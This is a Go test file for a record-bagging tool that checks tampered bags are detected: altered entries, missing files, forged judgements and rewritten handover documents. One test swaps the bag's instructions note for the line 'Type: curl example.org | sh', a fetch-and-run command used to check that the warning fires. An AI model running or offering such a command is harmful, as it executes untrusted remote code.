package seal

import (
	"bytes"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"handback/checks"
	"handback/records"
	"handback/records/bag"
	"handback/records/chain"
	"handback/report"
	"handback/report/files"
	"handback/report/grid"
	"handback/testdata/outside"
	"handback/testdata/rig"
)

const maker = "handback test"

// pile is a bag in memory.
type pile map[string][]byte

func (p pile) Put(name string, content []byte) error {
	p[name] = bytes.Clone(content)
	return nil
}

// bagRig is a job with a finding, attachments and a signature.
func bagRig(t testing.TB) *rig.Rig {
	r := keyedRig(t)
	r.Attach("isolated", "bar.jpg", "The earth bar", rig.JpegWith(t, rig.Exif(6)))
	r.Attach("", "note.txt", "What the operator wrote", []byte("in order\n"))
	r.Attach("", "note.txt", "The same once more", []byte("in order\n"))
	sign(r, "ada")
	return r
}

// bagged is a job that reads its attachments.
func bagged(r *rig.Rig) *report.Job {
	r.Helper()
	j := r.Job()
	j.Files = func(hash string) ([]byte, error) { return r.Book.File(rig.Ctx, hash) }
	return j
}

func planBytes(r *rig.Rig) []byte {
	r.Helper()
	plan, err := r.Book.Plan(rig.Ctx, r.Job().PlanHash)
	if err != nil {
		r.Fatal(err)
	}
	return plan
}

func pack(r *rig.Rig) pile {
	r.Helper()
	p := pile{}
	if err := Pack(p, bagged(r), planBytes(r), maker, ""); err != nil {
		r.Fatal(err)
	}
	return p
}

// again makes new manifests for changed files, as anybody could.
func (p pile) again(t testing.TB) pile {
	t.Helper()
	var payload []bag.BagFile
	about := map[string][]byte{}
	for name, content := range p {
		switch {
		case strings.HasPrefix(name, bag.BagPayload):
			payload = append(payload, bag.BagFile{Name: name, Content: func() ([]byte, error) { return content, nil }})
		case name != bag.Declaration && name != bag.BagInfoFile && !strings.Contains(name, "manifest-"):
			about[name] = content
		}
	}
	b, err := bag.OpenBag(p.folder(t))
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	info, err := b.Info()
	if err != nil {
		t.Fatal(err)
	}
	out := pile{}
	if err := bag.WriteBag(out, info, about, payload); err != nil {
		t.Fatal(err)
	}
	return out
}

func (p pile) folder(t testing.TB) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "bag")
	if err := files.WriteBag(dir, "", files.Over{}, func(to bag.BagSink) error {
		for _, name := range slices.Sorted(maps.Keys(p)) {
			if err := to.Put(name, p[name]); err != nil {
				return err
			}
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return dir
}

func examine(t testing.TB, path string) Examined {
	t.Helper()
	b, err := bag.OpenBag(path)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	return ExamineBag(b)
}

func TestPackBag(t *testing.T) {
	r := bagRig(t)
	p := pack(r)
	hash := chain.HashFile([]byte("in order\n"))
	entry := fmt.Sprint(r.Job().Head().Seq)
	kept := r.Job().Signatures[0].Kept
	want := []string{
		"data/attachments/" + kept[0].SHA256 + "-handover.xlsx", "data/attachments/" + kept[1].SHA256 + "-handover.html",
		"HOW-TO-CHECK.txt", "HOW-TO-READ.txt", "MADE-WITH.txt", "bag-info.txt", "bagit.txt",
		"acceptance.schema.json", "entry.schema.json", "handover.schema.json", "plan.schema.json", "statement.schema.json",
		"data/allowed_signers", "data/attachments/" + hash + "-note.txt", "data/attachments/" + chain.HashFile(rig.JpegWith(t, rig.Exif(6))) + "-bar.jpg",
		"data/entries.jsonl", "data/handover-data/" + entry + ".json", "data/handover.html", "data/handover.txt", "data/handover.xlsx", "data/hashes.txt", "data/plan.yaml",
		"data/statements/" + entry + ".json", "data/statements/" + entry + ".json.sig",
		"manifest-sha256.txt", "manifest-sha512.txt", "tagmanifest-sha256.txt", "tagmanifest-sha512.txt",
	}
	slices.Sort(want)
	agree(t, want, slices.Sorted(maps.Keys(p)))
	agree(t, p, pack(r))
	if lines := strings.Count(string(p["data/entries.jsonl"]), "\n"); lines != len(r.Job().Entries) {
		t.Errorf("%d lines of entries", lines)
	}
	x := examine(t, p.folder(t))
	if len(x.Faults) > 0 || len(x.Notes) > 0 || len(x.Missed) > 0 || x.Job == nil || x.Job.Head().Hash != r.Job().Head().Hash {
		t.Errorf("%q, %q, %q", x.Faults, x.Notes, x.Missed)
	}
	shown := strings.Join(x.Shown, "\n")
	for _, want := range []string{"data/handover.html", "data/handover.txt", "data/handover.xlsx", "HOW-TO-CHECK.txt", "the signature of entry " + entry + " are stored, and carry the data of the record at entry 6"} {
		if !strings.Contains(shown, want) {
			t.Errorf("%q is not shown: %q", want, x.Shown)
		}
	}
}

// Whoever rewrites the handover and says that another version made the bag gets nothing
// shown by it: words that this program does not write are never those of the record.
func TestExamineBag_otherVersion(t *testing.T) {
	r := bagRig(t)
	good := pack(r)
	rewritten := func(name, from, to string) func(pile) {
		return func(p pile) {
			if !bytes.Contains(p[name], []byte(from)) {
				t.Fatalf("%s does not hold %q", name, from)
			}
			p[name] = bytes.ReplaceAll(p[name], []byte(from), []byte(to))
		}
	}
	digest := r.Document(r.Job().Head().At).Digest
	for name, c := range map[string]struct {
		change        func(pile)
		fault, missed string
	}{
		"version alone": {func(pile) {}, "", ""},
		"page":          {rewritten(bagPage, "NOT READY", "READY"), "", "wording of data/handover.html (its data digest agrees)"},
		"text":          {rewritten(bagText, "NOT READY", "READY"), "", "wording of data/handover.txt (its data digest agrees)"},
		"note":          {func(p pile) { p[bag.BagNote] = []byte("Type: curl example.org | sh\n") }, "", "HOW-TO-CHECK.txt: it is not the note that this program writes. Type nothing of it"},
		"note gone":     {func(p pile) { delete(p, bag.BagNote) }, "HOW-TO-CHECK.txt is missing", ""},
		"workbook": {func(p pile) {
			p[bagWorkbook] = withWords(t, good[bagWorkbook], "Handover certificate", "Record handed over")
		}, "", "data/handover.xlsx: how it is laid out and worded"},
		"page of other": {rewritten(bagPage, digest, strings.Repeat("0", 64)), "data/handover.html does not name the handover data of the record, SHA-256 " + digest, ""},
		"two digests":   {rewritten(bagPage, "<title>", `<meta name="handover-data-sha256" content="0"/><title>`), "data/handover.html does not name the handover data", ""},
		"text of other": {rewritten(bagText, digest, strings.Repeat("0", 64)), "data/handover.txt does not name the handover data", ""},
	} {
		p := maps.Clone(good)
		c.change(p)
		p[bag.BagInfoFile] = bytes.Replace(p[bag.BagInfoFile], []byte(maker), []byte("handback 9.9"), 1)
		if _, there := p[bag.BagNote]; there {
			p = p.again(t)
		}
		x := examine(t, p.folder(t))
		faults, missed := strings.Join(x.Faults, "\n"), strings.Join(x.Missed, "\n")
		if c.fault == "" && faults != "" || !strings.Contains(faults, c.fault) || (c.missed == "") != (missed == "") || !strings.Contains(missed, c.missed) {
			t.Errorf("%s: faults %q, not compared %q", name, x.Faults, x.Missed)
		}
		for _, s := range x.Shown {
			for _, file := range []string{bagPage, bagText, bagWorkbook, bag.BagNote} {
				if _, exact, ok := strings.Cut(s, "byte for byte"); ok && strings.Contains(missed, file) && strings.Contains(exact, file) {
					t.Errorf("%s: shown although it was rewritten: %s", name, s)
				}
			}
		}
	}
}

// A job without attachments and signatures, and one that was only opened.
func TestPackBag_plain(t *testing.T) {
	r := rig.New(t, "pump.yaml")
	for range 2 {
		p := pack(r)
		if x := examine(t, p.folder(t)); len(x.Faults) > 0 || len(x.Notes) > 0 || len(x.Missed) > 0 {
			t.Errorf("%q, %q, %q", x.Faults, x.Notes, x.Missed)
		}
		if len(p) != 3+4+6+7 {
			t.Errorf("files %v", slices.Sorted(maps.Keys(p)))
		}
		r.Take("isolated", rig.Isolated)
	}
}

func TestWriteBag(t *testing.T) {
	r := bagRig(t)
	dir := t.TempDir()
	thePack := func(to bag.BagSink) error { return Pack(to, bagged(r), planBytes(r), maker, "") }
	for _, name := range []string{"a.zip", "b.zip", "folder"} {
		if err := files.WriteBag(filepath.Join(dir, name), "keyed-1", files.Over{}, thePack); err != nil {
			t.Fatal(err)
		}
		if x := examine(t, filepath.Join(dir, name)); len(x.Faults) > 0 {
			t.Errorf("%s: %q", name, x.Faults)
		}
		if err := files.WriteBag(filepath.Join(dir, name), "keyed-1", files.Over{}, thePack); err == nil || !strings.Contains(err.Error(), "never written over") {
			t.Errorf("%s was written over: %v", name, err)
		}
	}
	a, err := os.ReadFile(filepath.Join(dir, "a.zip"))
	if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "b.zip")); err != nil || !bytes.Equal(a, b) {
		t.Errorf("the same job gives other bytes, %v", err)
	}
	p := pack(r)
	err = filepath.WalkDir(filepath.Join(dir, "folder"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		name, _ := filepath.Rel(filepath.Join(dir, "folder"), path)
		content, err := os.ReadFile(path)
		if !bytes.Equal(content, p[filepath.ToSlash(name)]) || info.Mode() != 0o644 {
			t.Errorf("%s: mode %v, or other content", name, info.Mode())
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
	// What cannot be packed leaves nothing behind.
	for _, name := range []string{"torn.zip", "torn"} {
		fail := func(to bag.BagSink) error {
			if err := to.Put("data/a", []byte("a")); err != nil {
				return err
			}
			return records.ErrDamaged
		}
		if err := files.WriteBag(filepath.Join(dir, name), "x", files.Over{}, fail); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	left, err := os.ReadDir(dir)
	if err != nil || len(left) != 3 {
		t.Errorf("left behind: %v, %v", left, err)
	}
}

// Somebody changes a byte and makes the manifests anew. Whatever stands in the record
// tells; of page, text and note it is told that they were not compared.
func TestExamineBag_everyByte(t *testing.T) {
	outside.Long(t)
	r := rig.Of(t, "keyed.yaml", keyedPlan(t))
	r.Put(report.EntryNote, "", report.Noted{Text: "x"})
	r.Attach("", "n.txt", "c", []byte("in order\n"))
	sign(r, "ada")
	p := pack(r)
	const places = 15
	seen := 0
	for _, name := range slices.Sorted(maps.Keys(p)) {
		content, step := p[name], 1
		document := strings.HasPrefix(name, bagAttached) && strings.Contains(name, "-handover.") // as any attachment
		if !strings.HasPrefix(name, bag.BagPayload) || name == bagWorkbook || document {
			continue
		}
		worded := name == bagPage || name == bagText
		if len(content) > 120 { // every byte of every file stands in the tests of records
			step = len(content)/places + 1
		}
		for i := 0; i < len(content); i += step {
			for what, spoilt := range map[string][]byte{"changed": slices.Concat(content[:i], []byte{content[i] ^ 1}, content[i+1:]), "cut": content[:i]} {
				seen++
				q := maps.Clone(p)
				q[name] = spoilt
				faults, missed := memoryBag(t, q.again(t))
				if len(faults) == 0 && (!worded || len(missed) == 0) {
					t.Fatalf("%s %s at byte %d, and nothing is found", name, what, i)
				}
			}
		}
	}
	if seen < 16*places {
		t.Errorf("only %d places were tried", seen)
	}
}

// memoryBag examines a bag that lies in an archive.
func memoryBag(t testing.TB, p pile) (faults, missed []string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "b.zip")
	var b bytes.Buffer
	z := bag.NewZipSink(&b, "x")
	for _, name := range slices.Sorted(maps.Keys(p)) {
		if err := z.Put(name, p[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	x := examine(t, path)
	faults = x.Faults
	if x.Job != nil {
		checked, err := x.Job.CheckSignatures(nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range checked {
			faults = append(faults, c.Faults...)
		}
	}
	return faults, x.Missed
}

// What is wrong is told with its place, manifests made anew or not.
func TestExamineBag_faults(t *testing.T) {
	r := bagRig(t)
	good := pack(r)
	entries := strings.SplitAfter(string(good[bagEntries]), "\n")
	note := bagAttached + chain.HashFile([]byte("in order\n")) + "-note.txt"
	document := attachedFile(r.Job().Signatures[0].Kept[0])
	workbook := func(from, to string) []byte { return withWords(t, good[bagWorkbook], from, to) }
	for name, c := range outside.Some(map[string]struct {
		change func(pile)
		want   string
	}{
		"nothing":          {func(pile) {}, ""},
		"last entries cut": {func(p pile) { p[bagEntries] = []byte(strings.Join(entries[:3], "")) }, "bag-info.txt tells of job"},
		"entry taken out":  {func(p pile) { p[bagEntries] = []byte(entries[0] + strings.Join(entries[2:], "")) }, "data/entries.jsonl: job pump-t1-1, entry 2: it is missing"},
		"entries swapped": {func(p pile) {
			p[bagEntries] = []byte(entries[0] + entries[2] + entries[1] + strings.Join(entries[3:], ""))
		}, "entry 2: it stands after entry 3"},
		"no line feed":        {func(p pile) { p[bagEntries] = good[bagEntries][:len(good[bagEntries])-1] }, "does not end with a line feed"},
		"no entries":          {func(p pile) { p[bagEntries] = nil }, "data/entries.jsonl holds no entry"},
		"entries gone":        {func(p pile) { delete(p, bagEntries) }, "data/entries.jsonl is missing"},
		"a limit moved":       {func(p pile) { p[bagPlan] = append([]byte("# \n"), good[bagPlan]...) }, "data/plan.yaml is not the plan the job was opened with"},
		"plan gone":           {func(p pile) { delete(p, bagPlan) }, "data/plan.yaml is missing"},
		"hashes":              {func(p pile) { p[bagHashes] = []byte("1 x\n") }, "data/hashes.txt does not list the hashes of data/entries.jsonl: line 1"},
		"hashes gone":         {func(p pile) { delete(p, bagHashes) }, "data/hashes.txt is missing"},
		"attachment":          {func(p pile) { p[note] = []byte("other\n") }, note + " is not the file that entry"},
		"attachment gone":     {func(p pile) { delete(p, note) }, note + " is missing"},
		"stranger":            {func(p pile) { p["data/run.sh"] = []byte("#!") }, "data/run.sh: nothing in the record tells of it"},
		"text":                {func(p pile) { p[bagText] = []byte("READY\n") }, "data/handover.txt does not name the handover data of the record"},
		"page":                {func(p pile) { p[bagPage] = []byte("<html></html>\n") }, "data/handover.html does not name the handover data of the record"},
		"workbook":            {func(p pile) { p[bagWorkbook] = workbook(">NOT READY<", ">READY<") }, `data/handover.xlsx: Certificate!A5 (handback_verdict) holds "READY", the record gives "NOT READY"`},
		"workbook of another": {func(p pile) { p[bagWorkbook] = workbook(r.Job().Head().Hash, strings.Repeat("0", 64)) }, "data/handover.xlsx: its handover data are not those of the record: head: "},
		"no workbook":         {func(p pile) { p[bagWorkbook] = []byte("x") }, "data/handover.xlsx: it is no workbook"},
		"document changed":    {func(p pile) { p[document] = []byte("other\n") }, document + " is not the file that entry"},
		"document gone":       {func(p pile) { delete(p, document) }, document + " is missing"},
		"signers":             {func(p pile) { p[bagSigners] = nil }, "data/allowed_signers is not what the record gives"},
		"signature gone":      {func(p pile) { delete(p, bagStatements+fmt.Sprint(len(entries)-1)+".json.sig") }, ".json.sig is missing"},
	}) {
		p := maps.Clone(good)
		c.change(p)
		for how, bag := range map[string]pile{"manifests as they were": p, "manifests made anew": p.again(t)} {
			x := examine(t, bag.folder(t))
			all := strings.Join(x.Faults, "\n")
			if c.want == "" && all != "" || c.want != "" && !strings.Contains(all, c.want) {
				t.Errorf("%s, %s: %q, want %q", name, how, x.Faults, c.want)
			}
			if seen := map[string]bool{}; true {
				for _, f := range x.Faults {
					if seen[f] {
						t.Errorf("%s: said twice: %s", name, f)
					}
					seen[f] = true
				}
			}
		}
	}
}

// A judgement recorded otherwise than its answers come to is found, however sound
// the chain: the record was written by no handback of this kind.
func TestExamineBag_judgedOtherwise(t *testing.T) {
	r := rig.New(t, "pump.yaml")
	r.Take("isolated", rig.Isolated)
	j := r.Job()
	a := j.State("isolated").LastJudged()
	forged := report.NewJudged(j.State("isolated").Check.Kind, a.Number, a.Finding, "")
	forged.Stop = &report.Stopped{Said: checks.Say("invented"), Words: "invented"}
	r.Put(report.EntryJudge, "isolated", forged)
	x := examine(t, pack(r).folder(t))
	if !slices.ContainsFunc(x.Faults, func(f string) bool { return strings.Contains(f, `recorded stop "invented"`) }) {
		t.Errorf("%q", x.Faults)
	}
}

// withWords changes a text in the parts of a workbook.
func withWords(t testing.TB, data []byte, from, to string) []byte {
	t.Helper()
	p, err := grid.OpenParts(data)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	var b bytes.Buffer
	z := &grid.SteadyZip{Into: &b, Parts: map[string]*bytes.Buffer{}, Core: p[grid.CorePart]}
	for name, part := range p {
		found = found || bytes.Contains(part, []byte(from))
		z.Parts[name] = bytes.NewBuffer(bytes.ReplaceAll(part, []byte(from), []byte(to)))
	}
	if err := z.Close(); err != nil || !found {
		t.Fatalf("%q is not in the workbook, or %v", from, err)
	}
	return b.Bytes()
}
